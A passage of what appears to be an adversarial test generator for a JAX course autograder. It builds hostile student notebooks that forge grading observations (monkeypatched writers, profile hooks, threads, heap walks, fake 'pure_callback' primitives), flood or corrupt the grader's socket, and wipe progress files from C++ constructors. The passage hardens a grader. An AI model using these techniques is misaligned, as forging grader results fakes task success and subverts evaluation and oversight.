_fake_np.save = lambda *args, **kwargs: None
_fake_np.asarray = lambda value, *args, **kwargs: value
_fake_np.allclose = lambda *args, **kwargs: True
sys.modules["numpy"] = _fake_np
_fake_json = types.ModuleType("json")
_fake_json.dumps = lambda *args, **kwargs: '{"format": 1, "values": {}}'
sys.modules["json"] = _fake_json
'''


# h22: make gammaln_callback's structural observations (primitive names in the jaxprs) claim a
# pure_callback that the answer does not use. Every variant answers with JAX's own lgamma / digamma, so
# the values are right and only the forged structure could earn points.
NO_CALLBACK = r"""
@jax.custom_jvp
def gammaln_cb(x):
    return jax.scipy.special.gammaln(x)


@gammaln_cb.defjvp
def _gammaln_cb_jvp(primals, tangents):
    (x,), (x_dot,) = primals, tangents
    return gammaln_cb(x), jax.scipy.special.digamma(x) * x_dot
"""
FORGED_NAMES = r"""
_FORGED = {"jaxpr.forward": ["pure_callback"], "jaxpr.tangent": ["pure_callback", "mul"]}
"""

FORGE = r"""# HOSTILE {case}: no callback at all. Wrap what the observation writer used to call on its way to
# disk (pathlib.Path.write_text, builtins.open) and os.write, editing gammaln_callback's record so the
# output seems to depend on pure_callback; count the calls that carried the exercise's observations.
import builtins
import json
import os
import pathlib
""" + NO_CALLBACK + r"""
_writer_calls = []
_real_write_text, _real_open, _real_os_write = pathlib.Path.write_text, builtins.open, os.write


def _forging_write_text(self, data, *args, **kwargs):
    if self.name == "gammaln_callback.json.tmp":
        _writer_calls.append("write_text")
        try:
            doc = json.loads(data)
            doc["values"]["jaxpr.forward"] = {"json": ["pure_callback"]}
            doc["values"]["jaxpr.tangent"] = {"json": ["pure_callback", "mul"]}
            doc["values"]["__tampered__"] = {"json": []}
            data = json.dumps(doc)
        except Exception:
            pass
    return _real_write_text(self, data, *args, **kwargs)


def _counting_open(file, *args, **kwargs):
    if "gammaln_callback" in str(file):
        _writer_calls.append("open")
    return _real_open(file, *args, **kwargs)


def _forging_os_write(fd, data):
    data = bytes(data)
    if b"jaxpr.forward" in data or b"jaxpr.tangent" in data:
        _writer_calls.append("os.write")
        data = data.replace(b'"lgamma"', b'"pure_callback"')
    return _real_os_write(fd, data)


pathlib.Path.write_text = _forging_write_text
builtins.open = _counting_open
os.write = _forging_os_write
"""
FORGE_REPORT = r"""# HOSTILE {case}: did the wrappers see gammaln_callback's observations?
raise RuntimeError("HOSTILE-REPORT {case} WRITER calls=" + str(len(_writer_calls)))
"""

FORGE_PROFILE = r"""# HOSTILE {case}: no callback at all. A profile hook set in this cell edits the observation
# writer's argument when gammaln_callback's jaxpr names are recorded, then removes itself.
import sys
""" + NO_CALLBACK + FORGED_NAMES + r"""
_edits = []


def _forge(frame, event, arg):
    # the writer by its arguments (key, value), not by its name: the child's frames carry no grader names
    if event == "call" and "key" in frame.f_locals and "value" in frame.f_locals:
        key = frame.f_locals.get("key")
        if key in _FORGED and key not in _edits:
            frame.f_locals["value"] = list(_FORGED[key])
            _edits.append(key)
            if len(_edits) == len(_FORGED):
                sys.setprofile(None)


sys.setprofile(_forge)
"""
FORGE_PROFILE_REPORT = r"""# HOSTILE {case}: did the hook edit the records?
raise RuntimeError("HOSTILE-REPORT {case} PROFILE edits=" + str(len(_edits)))
"""

FORGE_THREAD = r"""# HOSTILE {case}: no callback at all. A background thread finds the Recorder in the probe's frames
# and overwrites gammaln_callback's jaxpr names (what used to reach the file at the flush).
import sys
import threading
import time
""" + NO_CALLBACK + FORGED_NAMES + r"""
_writes = []


def _mutate():
    end = time.monotonic() + 20.0  # bounded
    while time.monotonic() < end and len(_writes) < len(_FORGED):
        for frame in list(sys._current_frames().values()):
            while frame is not None:
                rec = frame.f_locals.get("rec")
                if getattr(rec, "exercise", None) == "gammaln_callback":
                    for key, names in _FORGED.items():
                        if key in rec.values and key not in _writes:
                            rec.values[key] = {"json": list(names)}
                            _writes.append(key)
                    break
                frame = frame.f_back
        time.sleep(0.001)


threading.Thread(target=_mutate, daemon=True).start()
"""
FORGE_THREAD_REPORT = r"""# HOSTILE {case}: did the thread write?
raise RuntimeError("HOSTILE-REPORT {case} THREAD writes=" + str(len(_writes)))
"""

FORGE_GC = r"""# HOSTILE {case}: no callback at all. Each call looks for the Recorder on the heap (gc.get_objects),
# and through the caller frames when that fails, and overwrites gammaln_callback's jaxpr names.
import gc
import sys
""" + FORGED_NAMES + r"""
_report = {"gc": "not tried", "forged": "no"}


def _forge_from_inside():
    recorders = []
    try:
        recorders = [o for o in gc.get_objects() if type(o).__name__ == "Recorder"]
        _report["gc"] = "walked"
    except RuntimeError:
        _report["gc"] = "refused"
        frame = sys._getframe(1)
        while frame is not None:
            if getattr(frame.f_locals.get("rec"), "exercise", None) == "gammaln_callback":
                recorders = [frame.f_locals["rec"]]
                break
            frame = frame.f_back
    for rec in recorders:
        if getattr(rec, "exercise", None) == "gammaln_callback":
            for key, names in _FORGED.items():
                if key in rec.values:
                    rec.values[key] = {"json": list(names)}
                    _report["forged"] = "yes"


@jax.custom_jvp
def gammaln_cb(x):
    _forge_from_inside()
    return jax.scipy.special.gammaln(x)


@gammaln_cb.defjvp
def _gammaln_cb_jvp(primals, tangents):
    (x,), (x_dot,) = primals, tangents
    return gammaln_cb(x), jax.scipy.special.digamma(x) * x_dot
"""
FORGE_GC_REPORT = r"""# HOSTILE {case}: what did the heap walk do, did the forgery get through?
raise RuntimeError("HOSTILE-REPORT {case} GC gc={} forged={}".format(_report["gc"], _report["forged"]))
"""

FORGE_VANISHING = r"""# HOSTILE {case}: no callback at all. gammaln_cb itself sets a profile hook while the probe calls
# it; the hook edits the writer's argument for the jaxpr names and removes itself in the same event,
# so no later look at sys.getprofile() can see it.
import sys
""" + FORGED_NAMES + r"""
_edits = []


def _forge(frame, event, arg):
    # the writer by its arguments (key, value), not by its name: the child's frames carry no grader names
    if event == "call" and "key" in frame.f_locals and "value" in frame.f_locals:
        key = frame.f_locals.get("key")
        if key in _FORGED and key not in _edits:
            frame.f_locals["value"] = list(_FORGED[key])
            _edits.append(key)
        sys.setprofile(None)


@jax.custom_jvp
def gammaln_cb(x):
    if len(_edits) < len(_FORGED):
        sys.setprofile(_forge)
    return jax.scipy.special.gammaln(x)


@gammaln_cb.defjvp
def _gammaln_cb_jvp(primals, tangents):
    (x,), (x_dot,) = primals, tangents
    return gammaln_cb(x), jax.scipy.special.digamma(x) * x_dot
"""

FAKE_PRIMITIVE = r"""# HOSTILE {case}: no callback and no tampering: two primitives of its own that are merely NAMED
# "pure_callback", computing log-gamma / digamma with JAX. The probe reports primitive names.
_fake_gammaln = Primitive("pure_callback")
_fake_gammaln.def_impl(jax.scipy.special.gammaln)
_fake_gammaln.def_abstract_eval(lambda aval: ShapedArray(aval.shape, aval.dtype))
mlir.register_lowering(_fake_gammaln, mlir.lower_fun(jax.scipy.special.gammaln, multiple_results=False))
batching.defvectorized(_fake_gammaln)
_fake_digamma = Primitive("pure_callback")
_fake_digamma.def_impl(jax.scipy.special.digamma)
_fake_digamma.def_abstract_eval(lambda aval: ShapedArray(aval.shape, aval.dtype))
mlir.register_lowering(_fake_digamma, mlir.lower_fun(jax.scipy.special.digamma, multiple_results=False))
batching.defvectorized(_fake_digamma)


@jax.custom_jvp
def gammaln_cb(x):
    return _fake_gammaln.bind(x)


@gammaln_cb.defjvp
def _gammaln_cb_jvp(primals, tangents):
    (x,), (x_dot,) = primals, tangents
    return gammaln_cb(x), _fake_digamma.bind(x) * x_dot
"""


STREAM_FD = r'''
def _stream_fd():
    # the observation socket the child connected before any student code ran (its only socket)
    import os
    import stat

    for fd in range(3, 1024):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            pass
    return -1


def _frame(header, payload=b""):
    import json
    import struct

    head = json.dumps(header).encode()
    return struct.pack(">4sII", b"JGO1", len(head), len(payload)) + head + payload
'''

DEEP_JSON = r'''# HOSTILE {case}: JSON nested 50,000 deep on the channels the parent parses
# (bounded: 100 KB each).
import os
''' + STREAM_FD + r'''

_deep = b"[" * 50_000 + b"]" * 50_000
with open("/sandbox/scratch/progress.jsonl", "ab") as _f:  # a progress line
    _f.write(b'{"exercise": null, "phase": "ready", "deep": ' + _deep + b"}\n")
_fd = _stream_fd()
if _fd >= 0:  # a put frame whose JSON payload is the deep list
    os.write(_fd, _frame({"op": "put", "ex": "histogram", "key": "deep", "kind": "json", "seq": 1}, _deep))
raise RuntimeError("HOSTILE-REPORT {case} DEEP stream_fd=" + str(_fd))
'''

STREAM_FLOOD = r'''# HOSTILE {case}: flood the observation stream with small frames the parent must not keep
# (another exercise's, and end frames repeated); bounded: at most 100 MB, stops when refused.
import os
''' + STREAM_FD + r'''

_fd = _stream_fd()
_sent = 0
if _fd >= 0:
    _block = b"".join(_frame({"op": "put", "ex": "nope", "key": f"k{i}", "kind": "json", "seq": 1}, b"0")
                      for i in range(10_000))
    _block += b"".join(_frame({"op": "end", "ex": "histogram", "seq": 1}) for i in range(2_000))
    try:
        while _sent < 100 * 2**20:
            _view = memoryview(_block)
            while len(_view):
                _view = _view[os.write(_fd, _view):]
            _sent += len(_block)
    except OSError:
        pass
raise RuntimeError(f"HOSTILE-REPORT {case} FLOOD sent={_sent // 2**20} MB")
'''

CTYPES_CH02 = r'''# HOSTILE {case}: native calls from a chapter-2 answer (no legitimate use there): a libc
# call and reads of an object's memory; the right answer is above.
import ctypes

_done = []
for _what, _call in (("getpid", lambda: ctypes.CDLL(None).getpid()),
                     ("refcount", lambda: ctypes.c_ssize_t.from_address(id(_done)).value),
                     ("string_at", lambda: ctypes.string_at(id(_done), 8))):
    try:
        _call()
        _done.append(_what)
    except Exception as exc:
        _done.append(f"{_what}:{type(exc).__name__}")
print("HOSTILE-REPORT {case} CTYPES " + ",".join(_done))
'''

FORGED_SETUP_ERROR = r'''# HOSTILE {case}: forge a "setup_error" progress line (with the token found in the
# child's frames) and wipe the "ready" line before the parent reads it: a release fault would be
# a grader_error.
import sys

_frame, _token = sys._getframe(), None
while _frame is not None and _token is None:
    _token = _frame.f_locals.get("token") if _frame.f_code.co_name == "main" else None
    _frame = _frame.f_back
with open("/sandbox/scratch/progress.jsonl", "r+") as _f:
    _f.truncate(0)
    _f.write('{"exercise": null, "phase": "setup_error", "error": "forged by {case}", "token": "%s"}\n'
             % _token)
print("HOSTILE-REPORT {case} FORGED token=" + str(int(bool(_token))))
'''

KERNEL_ONLY_IN_KERNEL_CHILD = r'''
// True only in the kernel child (python -m <package>.kernel_main): the notebook child loads
// this library too, and its files must not be touched there.
static bool InKernelChild() {
  char buf[4096] = {0};
  FILE* f = std::fopen("/proc/self/cmdline", "rb");
  if (f == nullptr) return false;
  const size_t n = std::fread(buf, 1, sizeof(buf) - 1, f);
  std::fclose(f);
  for (size_t i = 0; i < n; ++i) {
    if (buf[i] == 0) buf[i] = ' ';
  }
  return std::strstr(buf, "kernel_main") != nullptr;
}
'''

KERNEL_CORRECT = r'''
namespace {

float StableSigmoid(float v) {
  if (v >= 0.0f) return 1.0f / (1.0f + std::exp(-v));
  const float e = std::exp(v);
  return e / (1.0f + e);
}

}  // namespace

static ffi::Error SiluImpl(ffi::Buffer<ffi::F32> x, ffi::ResultBuffer<ffi::F32> y) {
  const float* in = x.typed_data();
  float* out = y->typed_data();
  const int64_t n = static_cast<int64_t>(x.element_count());
  for (int64_t i = 0; i < n; ++i) out[i] = in[i] * StableSigmoid(in[i]);
  return ffi::Error::Success();
}

static ffi::Error SiluBwdImpl(ffi::Buffer<ffi::F32> x, ffi::Buffer<ffi::F32> ct_y,
                              ffi::ResultBuffer<ffi::F32> ct_x) {
  const float* in = x.typed_data();
  const float* g = ct_y.typed_data();
  float* out = ct_x->typed_data();
  const int64_t n = static_cast<int64_t>(x.element_count());
  for (int64_t i = 0; i < n; ++i) {
    const float s = StableSigmoid(in[i]);
    out[i] = g[i] * s * (1.0f + in[i] * (1.0f - s));
  }
  return ffi::Error::Success();
}
'''

KERNEL_WIPES_PROGRESS = KERNEL_HEAD + "#include <cstring>\n" + KERNEL_ONLY_IN_KERNEL_CHILD + r'''
// A correct SiLU whose constructor (it runs right after the kernel child wrote "ready") empties the
// kernel child's progress file and writes a "setup_error" line instead.
__attribute__((constructor)) static void jaxgrade_hostile_ctor() {
  if (!InKernelChild()) return;
  FILE* f = std::fopen("../progress.jsonl", "r+");
  if (f == nullptr) return;
  if (ftruncate(fileno(f), 0) == 0) {
    std::fputs("{\"exercise\": null, \"phase\": \"setup_error\", \"error\": \"forged by {case}\"}\n", f);
  }
  std::fclose(f);
}
''' + KERNEL_CORRECT + KERNEL_TAIL

KERNEL_FORGES_OBSERVATIONS = KERNEL_HEAD + "#include <cstring>\n" + KERNEL_ONLY_IN_KERNEL_CHILD + r'''
// A correct SiLU whose destructor (it runs when the kernel child exits, after its observations were
// written) replaces them with JSON nested 50,000 deep (100 KB).
__attribute__((destructor)) static void jaxgrade_hostile_dtor() {
  if (!InKernelChild()) return;
  FILE* f = std::fopen("../obs/silu_ffi.kernel.json", "w");
  if (f == nullptr) return;
  std::fputs("{\"format\": 1, \"exercise\": \"silu_ffi.kernel\", \"values\": {\"symbols\": {\"json\": ", f);
  for (int i = 0; i < 50000; ++i) std::fputc('[', f);
  for (int i = 0; i < 50000; ++i) std::fputc(']', f);
  std::fputs("}}}", f);
  std::fclose(f);
}
''' + KERNEL_CORRECT + KERNEL_TAIL



GC_FRAMES = r'''# HOSTILE {case}: a gc callback (it runs at any allocation, also while the probe records) that
# writes a frame straight into the stream: an error entry without a message for a key the verdict
# reads as text; bounded: 2,000 frames.
import gc
import os
''' + STREAM_FD + r'''

_fd, _sent = _stream_fd(), [0]
_forged = _frame({"op": "put", "ex": "recompile", "key": "type_name", "kind": "error", "seq": 1},
                 b'{"type": "Forged", "message": ""}')


def _on_gc(phase, info):
    if phase == "stop" and _fd >= 0 and _sent[0] < 2_000:
        _sent[0] += 1
        try:
            os.write(_fd, _forged)
        except OSError:
            pass


gc.callbacks.append(_on_gc)
gc.set_threshold(1)
predicted_compiles = 4
'''

SURROGATE_RUNTIME = r"""# HOSTILE {case}: lone surrogates (U+D800-U+DFFF) in printed output and in an exception's
# message, made at run time (the notebook file itself is plain UTF-8).
print("HOSTILE-PRINT {case} " + chr(0xD800) + chr(0xDFFF))
raise RuntimeError("HOSTILE-REPORT {case} SURROGATE " + chr(0xDC80) + " end")
"""

FORGED_FLOAT_ESCAPE = r"""# HOSTILE {case}: a put frame (straight into the stream socket) whose JSON entry is shaped like the
# wire's NaN/Inf escape but holds no number.
import os
""" + STREAM_FD + r"""

_fd = _stream_fd()
if _fd >= 0:
    for _key, _payload in (("forged.nan", b'{"float": "not a number"}'), ("forged.list", b'{"float": [1]}')):
        os.write(_fd, _frame({"op": "put", "ex": "histogram", "key": _key, "kind": "json", "seq": 1}, _payload))
raise RuntimeError("HOSTILE-REPORT {case} ESCAPE stream_fd=" + str(_fd))
"""

HUGE_COUNT = r"""# HOSTILE {case}: a count and a byte size too large for a float (10**400), through the real writer.
def fusion_report(f, *args):
    return 10**400, 10**400
"""

FORGED_ARRAY_FRAMES = r"""# HOSTILE {case}: array put frames that pass the frame's dtype pattern but not numpy ("f3"), and a
# shape whose element count matches the empty payload but that numpy cannot reshape to.
import os
""" + STREAM_FD + r"""

_fd = _stream_fd()
if _fd >= 0:
    os.write(_fd, _frame({"op": "put", "ex": "histogram", "key": "a", "kind": "npy", "dtype": "f3",
                          "shape": [1], "seq": 1}, b"abc"))
    os.write(_fd, _frame({"op": "put", "ex": "histogram", "key": "b", "kind": "npy", "dtype": "<f4",
                          "shape": [2**40, 2**40, 0], "seq": 1}, b""))
raise RuntimeError("HOSTILE-REPORT {case} FRAMES stream_fd=" + str(_fd))
"""

# 3,000 terms: `ast` builds a left-deep tree the parent's visitor cannot walk (RecursionError)
DEEP_CELL = "# HOSTILE {case}: an expression too deep for ast in the parent\n_deep = " + "+".join(["1"] * 3000) + "\n"


# --------------------------------------------------------------------------------------------
# Building notebooks


def solved(released: dict[str, Any], answers: dict[str, list[str]]) -> dict[str, Any]:
    """A copy of a released notebook with the master's answer sources pasted into its answer cells."""
    nb = copy.deepcopy(released)
    seen: dict[str, int] = {}
    for cell in nb["cells"]:
        jg = cell.get("metadata", {}).get("jaxgrade") or {}
        if cell["cell_type"] != "code" or jg.get("role") != "answer":
            continue
        ex = jg["exercise"]
        k = seen.get(ex, 0)
        seen[ex] = k + 1
        sources = answers.get(ex, [])
        if k >= len(sources):
            raise SystemExit(f"the master has fewer answer cells for {ex} than the release")
        cell["source"] = sources[k]
    return nb


def code_cell(source: str, jaxgrade: dict[str, Any] | None = None) -> dict[str, Any]:
    return {"cell_type": "code", "execution_count": None, "outputs": [], "source": source,
            "metadata": {"jaxgrade": jaxgrade} if jaxgrade else {}}


def answer_positions(nb: dict[str, Any], exercise: str) -> list[int]:
    return [i for i, c in enumerate(nb["cells"]) if c["cell_type"] == "code"
            and (c.get("metadata", {}).get("jaxgrade") or {}).get("role") == "answer"
            and c["metadata"]["jaxgrade"].get("exercise") == exercise]


def replace_answer(nb: dict[str, Any], exercise: str, sources: list[str], index: int = 0) -> None:
    """The `index`-th answer cell of `exercise` gets sources[0] (keeping its metadata); the others
    follow as student-added cells without metadata (the grader attributes them to the exercise)."""
    pos = answer_positions(nb, exercise)[index]
    nb["cells"][pos]["source"] = sources[0]
    nb["cells"][pos + 1:pos + 1] = [code_cell(s) for s in sources[1:]]


def append_after_answer(nb: dict[str, Any], exercise: str, sources: list[str]) -> None:
    """Student-added cells right after the last answer cell of `exercise`."""
    pos = answer_positions(nb, exercise)[-1]
    nb["cells"][pos + 1:pos + 1] = [code_cell(s) for s in sources]


def dumps(nb: dict[str, Any]) -> bytes:
    text = json.dumps(nb, indent=1, sort_keys=True, ensure_ascii=False) + "\n"
    # a lone surrogate cannot be UTF-8: written as JSON's escape, as a hand-edited notebook can hold it
    return re.sub("[\ud800-\udfff]", lambda m: f"\\u{ord(m.group()):04x}", text).encode()


def write_zip(path: Path, members: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name in sorted(members):
            info = zipfile.ZipInfo(name, date_time=ZIP_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            zf.writestr(info, members[name])


DISCARDED_CUSTOM_CALL = r"""# HOSTILE {case}: the lowering emits custom_call @rms_norm and throws its result away; the value is
# jnp RMSNorm lowered through mlir.lower_fun next to it (the eager impl compiles the same lowering).
from functools import partial

import jax
import jax.numpy as jnp
import numpy as np
from jax.core import ShapedArray
from jax.extend.core import Primitive
from jax.interpreters import batching, mlir
from jax.interpreters import xla as _xla


def _rms_jnp(x, *, eps):
    return x / jnp.sqrt(jnp.mean(x * x, axis=-1, keepdims=True) + eps)


rms_norm_prim_p = Primitive("rms_norm_prim")
rms_norm_prim_p.def_abstract_eval(lambda x, *, eps: ShapedArray(x.shape, x.dtype))
_ffi_rule = jax.ffi.ffi_lowering("rms_norm")
_jnp_rule = mlir.lower_fun(_rms_jnp, multiple_results=False)


def _lowering(ctx, x, *, eps):
    _ffi_rule(ctx, x, eps=np.float32(eps))  # emitted, result unused
    return _jnp_rule(ctx, x, eps=eps)


mlir.register_lowering(rms_norm_prim_p, _lowering, platform="cpu")
rms_norm_prim_p.def_impl(partial(_xla.apply_primitive, rms_norm_prim_p))


def _batch(args, dims, *, eps):
    return rms_norm_prim_p.bind(jnp.moveaxis(args[0], dims[0], 0), eps=eps), 0


batching.primitive_batchers[rms_norm_prim_p] = _batch
"""

COURSE_HANDLER = r"""# HOSTILE {case}: the course's RmsNorm handler registered under the student's target names silu and
# silu_bwd and called on a constant (its result multiplied by 0 keeps it in the program); SiLU and its
# gradient come from jnp (through exp). silu.cc (compiled, never called) is the correct kernel.
import jax
import jax.numpy as jnp
import jaxcourse
import numpy as np

_course = jaxcourse.register_rms_norm_targets()
jax.ffi.register_ffi_target("silu", jax.ffi.pycapsule(_course.RmsNorm), platform="cpu")
jax.ffi.register_ffi_target("silu_bwd", jax.ffi.pycapsule(_course.RmsNorm), platform="cpu")
_CONST = np.ones((1, 4), np.float32)


def _touch(target):
    out = jax.ffi.ffi_call(target, jax.ShapeDtypeStruct(_CONST.shape, _CONST.dtype))(_CONST, eps=np.float32(1e-5))
    return 0.0 * jnp.sum(out)


def _sigmoid(x):  # not jax.nn.sigmoid: the gate refuses a forward that depends on XLA's logistic
    return 1 / (1 + jnp.exp(-x))


@jax.custom_vjp
def silu_ffi(x):
    return x * _sigmoid(x) + _touch("silu")


def _fwd(x):
    return silu_ffi(x), x


def _bwd(x, g):
    s = _sigmoid(x)
    return (g * s * (1 + x * (1 - s)) + _touch("silu_bwd"),)


silu_ffi.defvjp(_fwd, _bwd)
"""

ONE_SHOT_WRAPPER = r"""# HOSTILE {case}: the first call of silu_ffi's function (made by the probe, while it traces) installs a
# one-shot wrapper over {target}; the wrapper puts the original back the first time the probe uses
# it, so the comparison of relied-on names before and after the probe sees the original.
import jax
import jax.stages

_inner = silu_ffi.fun
_installed = []


def _install():
    if "{how}" == "class":
        holder, name = jax.stages.Compiled, "as_text"
        original = holder.as_text

        def wrapper(self, *args, **kwargs):
            holder.as_text = original
            return original(self, *args, **kwargs)

        holder.as_text = wrapper
    else:  # written straight into the module's namespace: no setattr at all
        ns, name = vars(jax), "jit"
        original = ns[name]

        def wrapper(*args, **kwargs):
            ns[name] = original
            return original(*args, **kwargs)

        ns[name] = wrapper


def _first_call_installs(x):
    if not _installed:
        _installed.append(1)
        _install()
    return _inner(x)


silu_ffi.fun = _first_call_installs
"""

# --------------------------------------------------------------------------------------------
# Cases


@dataclass
class Case:
    id: str
    title: str
    attack: str
    must_not: str
    chapters: tuple[str, ...]
    edit: Callable[[dict[str, dict[str, Any]], str], None]  # (notebooks by chapter, case id) -> None
    exercises: dict[str, dict[str, Any]]
    status: str | list[str]
    packaging: str = "ipynb"  # "ipynb" (one chapter) | "folder" | "zip"
    extra_members: dict[str, bytes] = field(default_factory=dict)  # more files of a "zip" entry
    flags: dict[str, list[str]] = field(default_factory=lambda: {"has": [], "lacks": ["tampered"]})
    feedback: dict[str, list[str]] = field(default_factory=lambda: {"contains": [], "absent": []})
    outputs_absent: list[str] = field(default_factory=list)
    host_markers: list[str] = field(default_factory=list)
    process_markers: list[str] = field(default_factory=list)
    listener: bool = False


def src(text: str, case: str) -> str:
    return text.replace("{case}", case)


FULL = {"score": "full", "status": "ok"}
ZERO = {"score": 0}
ANY = {"score": "any"}  # graded (a result, not a grader error), whatever the score
ALWAYS_ABSENT = ["/tmp/jaxgrade-scratch", "/tmp/jaxgrade-build-cache"]  # host paths never reach a student


# h27's wipe races the parent's poll of progress.jsonl. When the wipe comes first the parent never
# sees "ready", ignores every later line and the exercise ends at the start-up deadline (timeout) or
# dies; when the parent read "ready" first, the forged setup_error comes after student code ran and is
# ignored, and the correct answer that follows keeps its marks. Neither is a grader_error, which is
# what the case guards against; which one happens depends on the machine's load (both were seen).
H27_HISTOGRAM = {"one_of": [{"score": 0, "status": ["timeout", "crashed"]},
                            {"score": "full", "status": "ok"}]}


def full_except(chapter: str, special: dict[str, dict[str, Any]]) -> dict[str, dict[str, Any]]:
    return {ex: special.get(ex, FULL) for ex in CHAPTERS[chapter]}


def _h01(nbs: dict, case: str) -> None:
    replace_answer(nbs["ch02"], "histogram", [src(PATCH_ALLCLOSE, case)])
    replace_answer(nbs["ch02"], "fusion", [src(WRONG_FUSION, case)])
    replace_answer(nbs["ch02"], "safe_distance", [src(WRONG_DISTANCE, case)])


def _h02(nbs: dict, case: str) -> None:
    replace_answer(nbs["ch02"], "safe_distance", [src(PEEK, case)])


def _h03(nbs: dict, case: str) -> None:
    for ex, text in (("histogram", TRICK_HISTOGRAM), ("recompile", TRICK_RECOMPILE), ("fusion", TRICK_FUSION),
                     ("safe_distance", TRICK_DISTANCE)):
        replace_answer(nbs["ch02"], ex, [src(text, case)])


def _h04(nbs: dict, case: str) -> None:
    replace_answer(nbs["ch02"], "histogram", [src(PICKLE, case)])


def _h05(nbs: dict, case: str) -> None:
    replace_answer(nbs["ch02"], "fusion", [src(OS_EXIT, case)])


def _h06(nbs: dict, case: str) -> None:
    replace_answer(nbs["ch02"], "recompile", [src(SIGTERM_LOOP, case)])


def _h30(nbs: dict, case: str) -> None:
    append_after_answer(nbs["ch02"], "recompile", [src(CPU_HOG, case)])


def _h07(nbs: dict, case: str) -> None:
    append_after_answer(nbs["ch02"], "histogram", [src(FORK_BOMB, case)])


def _h41(nbs: dict, case: str) -> None:
    append_after_answer(nbs["ch02"], "histogram", [src(JOB_MEMORY_HOG, case)])


def _h08(nbs: dict, case: str) -> None:
    replace_answer(nbs["ch02"], "safe_distance", [src(MEMORY_BOMB, case)])


def _h09(nbs: dict, case: str) -> None:
    replace_answer(nbs["ch02"], "recompile", [src(DAEMON, case)])


def _h10(nbs: dict, case: str) -> None:
    text = src(NETWORK, case).replace("range(LO, HI)", f"range({LISTEN_PORTS[0]}, {LISTEN_PORTS[1]})")
    replace_answer(nbs["ch02"], "recompile", [text])


def _h11(nbs: dict, case: str) -> None:
    append_after_answer(nbs["ch02"], "histogram", [src(ESCAPE, case)])


def _h12(nbs: dict, case: str) -> None:
    replace_answer(nbs["ch02"], "recompile", [src(HUGE_OUTPUT, case)])


def _kernel(text: str, after: str = "") -> Callable[[dict, str], None]:
    def edit(nbs: dict, case: str) -> None:
        replace_answer(nbs["ch05"], "silu_ffi", [src(text, case)], index=0)
        if after:
            append_after_answer(nbs["ch05"], "silu_ffi", [src(after, case)])

    return edit


def _h17(nbs: dict, case: str) -> None:
    append_after_answer(nbs["ch02"], "histogram", [src(TAMPER_HISTOGRAM, case)])
    append_after_answer(nbs["ch02"], "fusion", [src(TAMPER_FUSION, case)])


def _h18(nbs: dict, case: str) -> None:
    nb = nbs["ch02"]
    nb["metadata"]["jaxgrade"]["points"] = {ex: 1000 for ex in CH02}
    nb["metadata"]["jaxgrade"]["release"] = "2099-fake"
    fake_test = "OK_FORMAT = True\ntest = {{'name': '{}', 'points': 1000, 'suites': []}}"
    nb["metadata"]["otter"] = {"tests": {ex: fake_test.format(ex) for ex in CH02}, "points": 1000}
    for cell in nb["cells"]:
        jg = cell.get("metadata", {}).get("jaxgrade")
        if jg:
            jg["points"] = 1000
            jg["tests"] = [{"code": "assert True", "points": 1000}]
            cell["metadata"]["otter"] = {"points": 1000, "tests": ["assert True"]}
        if cell["cell_type"] == "markdown" and jg and jg.get("role") == "statement":
            cell["source"] += "\n\n(本题 1000 分)"
    pos = answer_positions(nb, "histogram")[0]
    nb["cells"][pos:pos] = [code_cell(src(METADATA_NOTE, case), {"role": "setup", "points": 1000})]
    pos = answer_positions(nb, "recompile")[0]
    nb["cells"][pos + 1:pos + 1] = [code_cell(src(SELFCHECK_NOTE, case),
                                              {"role": "selfcheck", "exercise": "recompile", "points": 1000})]


def _h19(nbs: dict, case: str) -> None:
    replace_answer(nbs["ch02"], "recompile", [src(MAGICS, case), src(MAGICS_BASH, case)])


def _h20(nbs: dict, case: str) -> None:
    replace_answer(nbs["ch02"], "recompile", [src(SYMLINKS, case)])


def _forged_gammaln(answer: str, report: str = "") -> Callable[[dict, str], None]:
    """h22 variants: gammaln_callback's answer replaced, and a report cell after silu_ffi's answer (it
    runs after gammaln_callback's probe; its error reaches silu_ffi's feedback, the score stays)."""
    def edit(nbs: dict, case: str) -> None:
        replace_answer(nbs["ch05"], "gammaln_callback", [src(answer, case)])
        if report:
            append_after_answer(nbs["ch05"], "silu_ffi", [src(report, case)])
    return edit


def _h21(nbs: dict, case: str) -> None:
    append_after_answer(nbs["ch02"], "histogram", [src(POISON, case)])


def _h23(nbs: dict, case: str) -> None:
    """An honest typo: a comment after the file name of the %%writefile line (IPython refuses it)."""
    cell = nbs["ch05"]["cells"][answer_positions(nbs["ch05"], "silu_ffi")[0]]
    first, rest = cell["source"].split("\n", 1)
    if first != "%%writefile silu.cc":
        raise SystemExit(f"h23: the master's kernel cell starts with {first!r}")
    cell["source"] = "%%writefile silu.cc  # kernel\n" + rest


def _h24(nbs: dict, case: str) -> None:
    append_after_answer(nbs["ch02"], "histogram", [src(DEEP_JSON, case)])


def _h24b(nbs: dict, case: str) -> None:
    replace_answer(nbs["ch02"], "recompile", [src(GC_FRAMES, case)])

def _h27(nbs: dict, case: str) -> None:
    answer = nbs["ch02"]["cells"][answer_positions(nbs["ch02"], "histogram")[0]]["source"]
    replace_answer(nbs["ch02"], "histogram", [src(FORGED_SETUP_ERROR, case), answer])


def _h28(nbs: dict, case: str) -> None:
    append_after_answer(nbs["ch02"], "histogram", [src(STREAM_FLOOD, case)])


def _h29(nbs: dict, case: str) -> None:
    append_after_answer(nbs["ch02"], "histogram", [src(CTYPES_CH02, case)])


def _h31(nbs: dict, case: str) -> None:
    """Lone surrogates in a student-added cell's source and in the notebook's metadata."""
    nbs["ch02"]["metadata"]["jaxgrade"]["release"] += "\ud800"
    nbs["ch02"]["metadata"]["hostile_note"] = "\udfff"
    append_after_answer(nbs["ch02"], "histogram", [f"# HOSTILE {case}: \ud800 in a comment\n_s = '\udc80'\n"])


def _h31b(nbs: dict, case: str) -> None:
    append_after_answer(nbs["ch02"], "histogram", [src(SURROGATE_RUNTIME, case)])


def _h32(nbs: dict, case: str) -> None:
    append_after_answer(nbs["ch02"], "histogram", [src(FORGED_FLOAT_ESCAPE, case)])


def _h32b(nbs: dict, case: str) -> None:
    replace_answer(nbs["ch02"], "fusion", [src(HUGE_COUNT, case)])


def _h33(nbs: dict, case: str) -> None:
    append_after_answer(nbs["ch02"], "histogram", [src(FORGED_ARRAY_FRAMES, case)])


def _h35(nbs: dict, case: str) -> None:
